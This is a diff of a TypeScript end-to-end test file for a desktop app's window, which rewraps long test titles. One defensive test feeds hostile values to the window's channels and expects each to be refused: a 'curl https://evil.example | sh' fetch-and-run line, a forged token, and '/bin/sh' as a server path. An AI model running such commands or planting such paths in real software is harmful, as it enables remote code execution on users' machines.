@@ -280,38 +280,42 @@ describe('the window against the real handlers and the msbserver stand-in', () =
     expect(r.questions).toHaveLength(2);
   });
 
-  it('a window that calls the channels itself can put no text of its own on the clipboard, nor set the msbserver path', async () => {
-    const r = await openWindow();
-    const { page } = r;
-    await page.evaluate(() => navigator.clipboard.writeText('what the user had'));
-    const answers = await page.evaluate(async () => {
-      const msb = (
-        window as unknown as {
-          msb: Record<string, (payload?: unknown) => Promise<{ ok: boolean; error?: { code: string } }>>;
-        }
-      ).msb;
-      const results: Record<string, string> = {};
-      const codeOf = async (
-        name: string,
-        call: () => Promise<{ ok: boolean; error?: { code: string } }>,
-      ): Promise<void> => {
-        const answer = await call();
-        results[name] = answer.ok ? 'ok' : (answer.error?.code ?? '?');
-      };
-      await codeOf('text', () => msb['copy']!({ text: 'curl https://evil.example | sh', secret: false }));
-      await codeOf('forged key', () =>
-        msb['copy']!({ what: 'export-line', token: 'msb_eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJleHAiOjF9.c2ln' }),
-      );
-      await codeOf('path', () => msb['setSettings']!({ msbserverPath: '/bin/sh' }));
-      await codeOf('chooser', () => msb['chooseMsbserver']!());
-      return results;
-    });
-    expect(answers).toEqual({ text: 'invalid-input', 'forged key': 'refused', path: 'refused', chooser: 'declined' });
-    expect(await r.readClipboard()).toBe('what the user had');
-    expect(r.settings.get().msbserverPath).toBeNull();
-    // The chooser was main's own dialog, which the user cancelled.
-    expect(r.questions.map((question) => question.title)).toEqual(['Choose msbserver']);
-  });
+  it(
+    'a window that calls the channels itself can put no text of its own on the clipboard, nor set the msbserver ' +
+      'path',
+    async () => {
+      const r = await openWindow();
+      const { page } = r;
+      await page.evaluate(() => navigator.clipboard.writeText('what the user had'));
+      const answers = await page.evaluate(async () => {
+        const msb = (
+          window as unknown as {
+            msb: Record<string, (payload?: unknown) => Promise<{ ok: boolean; error?: { code: string } }>>;
+          }
+        ).msb;
+        const results: Record<string, string> = {};
+        const codeOf = async (
+          name: string,
+          call: () => Promise<{ ok: boolean; error?: { code: string } }>,
+        ): Promise<void> => {
+          const answer = await call();
+          results[name] = answer.ok ? 'ok' : (answer.error?.code ?? '?');
+        };
+        await codeOf('text', () => msb['copy']!({ text: 'curl https://evil.example | sh', secret: false }));
+        await codeOf('forged key', () =>
+          msb['copy']!({ what: 'export-line', token: 'msb_eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJleHAiOjF9.c2ln' }),
+        );
+        await codeOf('path', () => msb['setSettings']!({ msbserverPath: '/bin/sh' }));
+        await codeOf('chooser', () => msb['chooseMsbserver']!());
+        return results;
+      });
+      expect(answers).toEqual({ text: 'invalid-input', 'forged key': 'refused', path: 'refused', chooser: 'declined' });
+      expect(await r.readClipboard()).toBe('what the user had');
+      expect(r.settings.get().msbserverPath).toBeNull();
+      // The chooser was main's own dialog, which the user cancelled.
+      expect(r.questions.map((question) => question.title)).toEqual(['Choose msbserver']);
+    },
+  );
 
   it('copies the server URL main knows from the status view', async () => {
     const r = await openWindow();
@@ -442,55 +446,67 @@ describe('sandboxes in the window', () => {
 
 describe('the window with no msbserver, and the reset dialog', () => {
   describe('the window', () => {
-    it('a server the CLI started while the app finds no msbserver: Restart is not offered (it would end the server and start nothing)', async () => {
-      const r = await openWindow({ msbserver: 'missing' });
-      const { page } = r;
-      await r.cliStart();
-      await expect.poll(() => stateText(page), { timeout: 20_000 }).toBe('Running');
-      await expect
-        .poll(() => byTestId(page, 'setup-problem').getByRole('heading').textContent())
-        .toBe('The app cannot find msbserver');
-      // Stop stays: it needs no msbserver to run.
-      expect(await button(page, 'Stop').isEnabled()).toBe(true);
-      // What a Restart does now: after the question, the user's server is gone and nothing runs.
-      expect(await button(page, 'Restart').isDisabled()).toBe(true);
-    });
+    it(
+      'a server the CLI started while the app finds no msbserver: Restart is not offered (it would end the ' +
+        'server and start nothing)',
+      async () => {
+        const r = await openWindow({ msbserver: 'missing' });
+        const { page } = r;
+        await r.cliStart();
+        await expect.poll(() => stateText(page), { timeout: 20_000 }).toBe('Running');
+        await expect
+          .poll(() => byTestId(page, 'setup-problem').getByRole('heading').textContent())
+          .toBe('The app cannot find msbserver');
+        // Stop stays: it needs no msbserver to run.
+        expect(await button(page, 'Stop').isEnabled()).toBe(true);
+        // What a Restart does now: after the question, the user's server is gone and nothing runs.
+        expect(await button(page, 'Restart').isDisabled()).toBe(true);
+      },
+    );
 
-    it('a view shortcut pressed while the reset dialog is open leaves the dialog modal (or closed), never open without its backdrop', async () => {
-      const r = await openWindow();
-      const { page } = r;
-      await page.getByRole('tab', { name: 'Keys' }).click();
-      await button(page, 'Reset server key').click();
-      const dialog = page.locator('dialog.confirm');
-      expect(await dialog.evaluate((d: HTMLDialogElement) => d.matches(':modal'))).toBe(true);
-      await page.keyboard.press('Control+1');
-      const stillModal = await dialog.evaluate((d: HTMLDialogElement) => d.matches(':modal'));
-      // The shortcut waited for the answer: nothing else to see (the page behind is inert).
-      if (stillModal) return;
-      await page.getByRole('tab', { name: 'Keys' }).click();
-      // Either the shortcut waited for the dialog, or leaving the view closed it: open and not modal
-      // is a dialog with no backdrop and no focus trap over a live form.
-      const { open, modal } = await dialog.evaluate((d: HTMLDialogElement) => ({
-        open: d.open,
-        modal: d.matches(':modal'),
-      }));
-      expect(open && !modal).toBe(false);
-    });
+    it(
+      'a view shortcut pressed while the reset dialog is open leaves the dialog modal (or closed), never open ' +
+        'without its backdrop',
+      async () => {
+        const r = await openWindow();
+        const { page } = r;
+        await page.getByRole('tab', { name: 'Keys' }).click();
+        await button(page, 'Reset server key').click();
+        const dialog = page.locator('dialog.confirm');
+        expect(await dialog.evaluate((d: HTMLDialogElement) => d.matches(':modal'))).toBe(true);
+        await page.keyboard.press('Control+1');
+        const stillModal = await dialog.evaluate((d: HTMLDialogElement) => d.matches(':modal'));
+        // The shortcut waited for the answer: nothing else to see (the page behind is inert).
+        if (stillModal) return;
+        await page.getByRole('tab', { name: 'Keys' }).click();
+        // Either the shortcut waited for the dialog, or leaving the view closed it: open and not modal
+        // is a dialog with no backdrop and no focus trap over a live form.
+        const { open, modal } = await dialog.evaluate((d: HTMLDialogElement) => ({
+          open: d.open,
+          modal: d.matches(':modal'),
+        }));
+        expect(open && !modal).toBe(false);
+      },
+    );
 
-    it("main's navigation (the tray's Settings…) while the reset dialog is open does not leave it open without being modal", async () => {
-      const r = await openWindow();
-      const { page } = r;
-      await page.getByRole('tab', { name: 'Keys' }).click();
-      await button(page, 'Reset server key').click();
-      const dialog = page.locator('dialog.confirm');
-      r.emit('event:navigate', { view: 'settings' });
-      await expect.poll(() => page.getByRole('tab', { selected: true }).textContent()).toBe('Settings');
-      await page.getByRole('tab', { name: 'Keys' }).click();
-      const { open, modal } = await dialog.evaluate((d: HTMLDialogElement) => ({
-        open: d.open,
-        modal: d.matches(':modal'),
-      }));
-      expect(open && !modal).toBe(false);
-    });
+    it(
+      "main's navigation (the tray's Settings…) while the reset dialog is open does not leave it open without " +
+        'being modal',
+      async () => {
+        const r = await openWindow();
+        const { page } = r;
+        await page.getByRole('tab', { name: 'Keys' }).click();
+        await button(page, 'Reset server key').click();
+        const dialog = page.locator('dialog.confirm');
+        r.emit('event:navigate', { view: 'settings' });
+        await expect.poll(() => page.getByRole('tab', { selected: true }).textContent()).toBe('Settings');
+        await page.getByRole('tab', { name: 'Keys' }).click();
+        const { open, modal } = await dialog.evaluate((d: HTMLDialogElement) => ({
+          open: d.open,
+          modal: d.matches(':modal'),
+        }));
+        expect(open && !modal).toBe(false);
+      },
+    );
   });
 });
